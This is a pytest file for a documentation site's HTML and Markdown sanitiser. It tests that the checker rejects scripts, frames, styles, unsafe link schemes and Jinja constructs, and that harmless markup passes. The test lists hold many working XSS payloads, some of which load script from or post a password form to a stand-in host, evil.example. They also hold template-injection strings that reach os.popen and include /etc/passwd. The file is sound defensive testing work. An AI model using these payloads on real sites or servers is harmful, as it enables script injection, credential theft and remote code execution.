"""What a page may become: harmless HTML passes, and no way to a script, a frame or a foreign
style does.
"""

from __future__ import annotations

import re

import markdown
import pytest

from macros.pages import allowlist as markup
from macros.pages.handwritten import EXTENSIONS, check_page
from macros.render.view import View
from tests.organ import SMALL, told

NAME = "docs/en/page.md"
HEAD = "---\ntitle: T\n---\n\n# Title {#title}\n\n"


@pytest.fixture(scope="module")
def view() -> View:
    return SMALL.view()


def codes(view: View, text: str) -> set[str]:
    """The codes of the problems of a page; each lies in the file, is an error and has a
    sentence in every language.
    """
    lines = text.split("\n")
    found = list(check_page(NAME, text.encode(), view))
    for problem in found:
        assert (problem.file, problem.severity) == (NAME, "error")
        assert (
            1 <= problem.line <= len(lines)
            and 1 <= problem.column <= len(lines[problem.line - 1]) + 1
        )
        assert len({problem.sentence(lambda key, **values: key)}) == 1
        assert all(told([problem], language) for language in ("en", "zh", "fr"))
    return {problem.code for problem in found}


# --- what is on the lists -------------------------------------------------------------------------

RUNS_OR_LOADS = [
    "applet",
    "audio",
    "base",
    "body",
    "button",
    "canvas",
    "dialog",
    "embed",
    "fieldset",
    "form",
    "frame",
    "frameset",
    "head",
    "html",
    "iframe",
    "input",
    "keygen",
    "link",
    "marquee",
    "math",
    "meta",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "option",
    "param",
    "picture",
    "plaintext",
    "portal",
    "script",
    "select",
    "slot",
    "source",
    "style",
    "svg",
    "template",
    "textarea",
    "title",
    "track",
    "video",
    "xmp",
    "x-custom",
]


def test_nothing_that_runs_loads_or_asks_is_on_the_list_of_elements() -> None:
    assert not markup.ELEMENTS & set(RUNS_OR_LOADS)


@pytest.mark.parametrize("element", RUNS_OR_LOADS)
def test_other_elements_are_refused(element: str) -> None:
    for html in (
        f"<{element}>",
        f"<{element.upper()} id=x>",
        f"<p>a <{element}/>",
        f"<{element}>x</{element}>",
    ):
        assert markup.find_faults(html)[0] == ("script", f"<{element}"), html


@pytest.mark.parametrize("element", sorted(markup.ELEMENTS))
def test_the_elements_of_the_list_pass_without_attributes(element: str) -> None:
    assert markup.find_faults(f"<{element}>x</{element}>") == []


@pytest.mark.parametrize(
    "attribute", [*sorted(markup.ATTRIBUTES - {"href", "src", "cite"}), "aria-label", "aria-hidden"]
)
def test_the_attributes_of_the_list_pass(attribute: str) -> None:
    assert markup.find_faults(f'<p {attribute}="x">x</p>') == []


@pytest.mark.parametrize(
    "attribute",
    [
        "action",
        "autofocus",
        "background",
        "data-x",
        "data-tracker-slot",
        "download",
        "formaction",
        "http-equiv",
        "is",
        "longdesc",
        "name",
        "nonce",
        "onbegin",
        "onclick",
        "onerror",
        "onfocus",
        "onload",
        "onmouseover",
        "ontoggle",
        "ping",
        "poster",
        "sandbox",
        "srcdoc",
        "srcset",
        "style",
        "target",
        "usemap",
        "xlink:href",
        "xml:base",
        "xmlns",
        "aria",
    ],
)
def test_other_attributes_are_refused(attribute: str) -> None:
    for html in (
        f'<p {attribute}="x">',
        f"<P {attribute.upper()}=x>",
        f"<p {attribute}>",
        f'<p id="a" {attribute}=x />',
    ):
        assert ("script", attribute) in markup.find_faults(html), html


# --- attacks --------------------------------------------------------------------------------------

HTML = [
    # scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example></script>",
    "<script type=module>import '//evil.example'</script>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<b/onclick=alert(1)>x</b>",
    '<img title="a>b" src="x" onerror="alert(1)">',
    "<b onmouseover=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a id=x tabindex=1 onfocus=alert(1)>x</a>",
    "<h2 onclick=x>x</h2>",
    # other elements
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='x.swf'></object>",
    "<embed src='x.swf'>",
    "<style>* { display: none }</style>",
    "<p style='background:url(javascript:x)'>x</p>",
    "<form action='https://evil.example'><input name=password></form>",
    "<button formaction='javascript:x'>x</button>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><plaintext>",
    "<video><source onerror=alert(1)></video>",
    "<div data-tracker-slot='0'></div>",
    # links
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script&NewLine;:alert(1)'>x</a>",
    "<a href='x' href='javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='http://example.org'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href=' / / evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    # what is no element
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('ls') ?>",
    "<?xml-stylesheet href='javascript:x'?>",
    "<!-- a --><script>alert(1)</script>",
    "<b title=x><script>alert(1)</script></b>",
    '<b title="\'><script>alert(1)</script>" onclick=x>',
]

ALONE = [
    # only where nothing stands around it; between words it comes out as text
    "<script\n>alert(1)</script>",
    "<p onclick\n=\nalert(1)>x</p>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "<!DOCTYPE html>",
    "<? x ?>",
]


@pytest.mark.parametrize("html", HTML + ALONE)
def test_attacks_in_html(view: View, html: str) -> None:
    assert markup.find_faults(html)
    around = [] if html in ALONE else [f"{HEAD}Words {html} and words.\n", f"{HEAD}- a\n- {html}\n"]
    for page in (html, f"{HEAD}{html}\n", *around):
        assert codes(view, page) & {"script", "page_link"}, page


@pytest.mark.parametrize(
    "html",
    [
        "<img src='x'onerror='alert(1)'>",
        "<b title=''onclick=alert(1)>x</b>",
        "<img/src='x'/onerror=alert(1)>",
        "< script>alert(1)</script >",
        "<script src=//evil.example/x",
        "<img src=x onerror=alert(1) ",
    ],
)
def test_what_markdown_makes_harmless_by_itself(view: View, html: str) -> None:
    """Not refused, or refused; but if not, then there is no element of it."""
    for page in (html, f"{HEAD}Words {html} and words.\n"):
        made = markdown.markdown(page.removeprefix(HEAD), extensions=list(EXTENSIONS))
        assert codes(view, page) or not set(re.findall(r"<\w+", made)) - {"<p"}


MARKDOWN = [
    # links in every form
    "[a](javascript:alert(1))",
    "[a](JAVASCRIPT:alert(1))",
    "[a](<javascript:alert(1)>)",
    '[a](javascript:alert(1) "title")',
    "[a]( javascript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6a;&#x61;vascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](vbscript:x)",
    "[a](data:text/html,x)",
    "[a](http://example.org)",
    "[a](//evil.example)",
    "[a](ftp://example.org)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "[a][]\n\n[A]: <javascript:alert(1)> 'title'",
    "[a]\n\n[a]: javascript:alert(1)",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,AAAA)",
    "![a][b]\n\n[b]: javascript:alert(1)",
    "[![a](x.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<http://example.org>",
    "<ftp://example.org>",
    "# [a](javascript:alert(1))",
    "| a |\n|---|\n| [a](javascript:alert(1)) |",
    "<!-- --!><script>alert(1)</script> -->",
    "> 1. [a](javascript:alert(1))",
    "**[a](javascript:alert(1))**",
    # attributes added to what Markdown makes
    "# T {onclick=alert(1)}",
    "## T {#id .class onclick='alert(1)'}",
    "## T {: onmouseover=x} ##",
    "*a*{onclick=x}",
    "[a](page.md){onclick=x}",
    "[a](page.md){href=javascript:alert(1)}",
    "[a](page.md){: style='position:fixed' }",
    "![a](x.png){onerror=alert(1)}",
    "![a](x.png){srcset='//evil.example/x'}",
    "Words.\n{: style='display:none' }",
    "Words.\n{: ONCLICK='x' }",
    "- a\n{onclick=x}",
    "| a {onclick=x} |\n|---|\n| b |",
    "| a |\n|---|\n| b {style=x} |",
    "```{ .python onclick=x }\ncode\n```",
    # HTML where it may be overlooked
    "`code` <script>alert(1)</script>",
    "``` not a fence <script>alert(1)</script>",
    "\\`<script>alert(1)</script>\\`",
    "```\ncode\n```\n<script>alert(1)</script>",
    "- item\n\n    <script>alert(1)</script>",
    "*<script>alert(1)</script>*",
    "[<script>alert(1)</script>](page.md)",
    "# <script>alert(1)</script>",
    "T <img src=x onerror=alert(1)>\n===",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<p>\n\n<script>alert(1)</script>\n\n</p>",
    "<div>\n# a\n<script>alert(1)</script>\n</div>",
    "a  \n<script>alert(1)</script>",
    # HTML put together by the template
    "<scr{% raw %}ipt>alert(1)</scr{% endraw %}ipt>",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "{%- raw -%}   <img src=x onerror=alert(1)>   {%- endraw -%}",
    "<scr{## a comment ##}ipt>alert(1)</scr{## ##}ipt>",
    "[a](java{## ##}script:alert(1))",
    "[a](java{% raw %}script:alert(1){% endraw %})",
    "{## a ##}<script>alert(1)</script>",
    # what is code only as long as the macro's HTML is not there
    "`{{ overview() }}<script>alert(1)</script>`",
    "``{{ overview() }} <img src=x onerror=alert(1)>``",
    # what readers of HTML read in different ways
    "<!--> <script>alert(1)</script> -->",
    "Words <!--> <script>alert(1)</script> --> and words",
    "<!-- a comment -->",
    '<div title=="><script>alert(1)</script>">y</div>',
    '<div title=\u2003"><script>alert(1)</script>">y</div>',
    'Words <b title=\u2003"><img src=x onerror=alert(1)>">y</b>',
    '<div title="a>b">y</div>',
    "## T {#__config}",
    '<p id="__palette_0">x</p>',
    "{{ overview() }}<script>alert(1)</script>",
    "<script>{{ overview() }}</script>",
]


@pytest.mark.parametrize("text", MARKDOWN)
def test_attacks_in_markdown(view: View, text: str) -> None:
    for page in (f"{text}\n", f"{HEAD}{text}\n", f"{HEAD}{text}\n".replace("\n", "\r\n")):
        assert codes(view, page) & {"script", "page_link"}, page


TEMPLATE = [
    "{{ config }}",
    "{{ self }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ overview.__globals__ }}",
    "{{ lipsum.__globals__.os.popen('ls').read() }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ (overview)() }}{{ namespace(a=1).a }}",
    "{{ overview() | attr('__class__') }}",
    "{{ overview(**config) }}",
    "{{ mechanism(name=config) }}",
    "{% raw %}{% endraw %}{{ config }}",
    "{% raw %}{{ '{% endraw %}' }}{{ config }}",
    "{% raw %}x{%- endraw -%}{{ config }}{% raw %}y{% endraw %}",
    "{## ##}{{ config }}",
    "{## {% raw %} ##}{{ config }}",
    "{% raw %}{##{% endraw %}{{ config }}{% raw %}##}{% endraw %}",
    "{# no comment here #}{{ config }}",
    "{# {{ config }} #}",
    "`{{ config }}`",
    "    {{ config }}",
    "<!-- {{ config }} -->",
    "[a]({{ config.site_url }})",
    "# T {{ config }} {#t}",
    "{% set x = config %}",
    "{%- set x %}<script>{% endset -%}",
    "{% if config %}<script>{% endif %}",
    "{% for c in ''.__class__.__subclasses__() %}{{ c }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% macro a() %}{% endmacro %}",
    "{% filter safe %}<b>{% endfilter %}",
    "{% call overview() %}{% endcall %}",
    "{% autoescape false %}x{% endautoescape %}",
    "{%+ set x = 1 +%}",
]


@pytest.mark.parametrize("text", TEMPLATE)
def test_attacks_by_the_template(view: View, text: str) -> None:
    for page in (text, f"{HEAD}{text}\n", f"{HEAD}```\n{text}\n```\n"):
        assert codes(view, page) & {"template_construct", "template_syntax", "unknown_macro"}, page


# --- what passes ----------------------------------------------------------------------------------

HARMLESS = [
    "Words, *emphasis*, **strong**, `code`, 中文 and 100 %.",
    "1 < 2 > 0, a <3 b, x<y, AT&T, &amp; &lt;script&gt; &copy;",
    "# Title {#title}\n\n## 为什么 {#why}\n\n### How it works { #how .small }",
    "[a](https://example.org/a?b=c&d=e#f) [b](mailto:a@example.org) [c](page.md) "
    "[d](../page.md#x) [e](#x) [f](./x/)",
    "[a](https://example.org 'A title') [b](page.md \"A title\")",
    "[a][b] and [c]\n\n[b]: https://example.org\n[c]: page.md 'T'",
    "<https://example.org/a> and <a@example.org>",
    "[a](2024:x.md)",
    "[a](javascript.md) and [b](data/javascript:x.md) and [c](?q=javascript:x)",
    "[](page.md)",
    "![A picture](picture.png) ![B](../x.png 'T')",
    "![A](x.png){ width=100 height=50 .left }",
    "- one\n- two\n    1. three\n\n> A quotation.\n\n---\n\nEnd.",
    "| a | b |\n|---|---|\n| 1 | **2** |",
    "| a | b | c |\n|:--|--:|:-:|\n| 1 | **2** | 3 |",
    "`{{ overview() }}`",
    "```html\n<script>alert(1)</script>\n```",
    "~~~\n<img src=x onerror=alert(1)>\n~~~",
    "    <iframe src=x>",
    "`<script>` and ``<img onerror=x>``",
    "&lt;script> and &#60;script&#62;",
    "`{% raw %}{{ config }}{% endraw %}`",
    "```\n{% raw %}{% for x in y %}<script>{% endfor %}{% endraw %}\n```",
    "{{ overview() }}\n\nWords.\n\n{{ resolution_summary('1-1') }}",
    "H<sub>2</sub>O, m<sup>2</sup>, <kbd>Ctrl</kbd>, a<br>b, <abbr title='United "
    "Nations'>UN</abbr>",
    "<details open><summary>More</summary>\n\nWords.\n\n</details>",
    '<div class="note" id="n" lang="fr" dir="ltr" role="note" aria-label="Note">\nMots.\n</div>',
    "<figure><img src='x.png' alt='' width='1' height='1'><figcaption>F</figcaption></figure>",
    "<table><thead><tr><th scope='col' "
    "colspan='2'>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>",
    "<ol start='3' reversed><li value='4'>x</li></ol>",
    "<small>Small print.</small>",
    "“Quotation” – a dash -- 'and' \"so\" on ...",
    "It says onclick=alert(1), javascript:alert(1) and style=x.",
    "a {onclick=x} b",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_pages_pass(view: View, text: str) -> None:
    for page in (f"{text}\n", f"{HEAD}{text}", f"{HEAD}{text}\n".replace("\n", "\r\n")):
        assert told(check_page(NAME, page.encode(), view)) == ""


@pytest.mark.parametrize(
    ("address", "safe"),
    [
        ("https://example.org", True),
        ("HTTPS://example.org", True),
        ("mailto:a@example.org", True),
        ("", True),
        ("#", True),
        ("/", True),
        (".", True),
        ("..", True),
        ("a/b:c", True),
        ("http:", False),
        ("javascript:", False),
        ("x-y+z.1:", False),
        ("//x", False),
        ("\t/\n/x", False),
        ("\\x", False),
        ("https:evil", False),
    ],
)
def test_addresses(address: str, safe: bool) -> None:
    assert markup.is_safe_address(address) is safe


def test_the_place_of_what_is_refused(view: View) -> None:
    text = f"{HEAD}Words <i>x</i> <svg>\n\n[a](javascript:x)\n"
    found = [
        (problem.line, problem.column, problem.code, problem.values)
        for problem in check_page(NAME, text.encode(), view)
    ]
    assert found == [
        (7, 16, "script", {"passage": "<svg"}),
        (9, 5, "page_link", {"passage": "javascript:x"}),
    ]


def test_the_check_uses_the_extensions_of_the_configuration(repo) -> None:
    """Those of `mkdocs.yml`, and the three that MkDocs always adds."""
    import yaml

    written = yaml.safe_load((repo / "mkdocs.yml").read_text("utf-8").replace("!ENV", ""))[
        "markdown_extensions"
    ]
    names = {name if isinstance(name, str) else next(iter(name)) for name in written}
    assert set(EXTENSIONS) == names | {"toc", "tables", "fenced_code"}
    assert markup.find_faults(markdown.markdown("# T {#t}", extensions=list(EXTENSIONS))) == []


# --- the second wall ------------------------------------------------------------------------------


@pytest.mark.parametrize("html", HTML)
def test_what_gets_past_the_check_is_removed_when_a_page_is_rendered(html: str) -> None:
    assert {what for _, what in markup.find_faults(markup.clean(html))} <= {markup.SLOT}


def test_harmless_html_and_the_places_of_macros_are_left_as_they_are() -> None:
    html = (
        '<h2 id="a">A <a href="../b/#c">b</a></h2>\n<div data-tracker-slot="0"></div>\n'
        '<table><tbody><tr><td style="text-align: right;">1</td></tr></tbody></table>'
    )
    assert markup.clean(html) == html
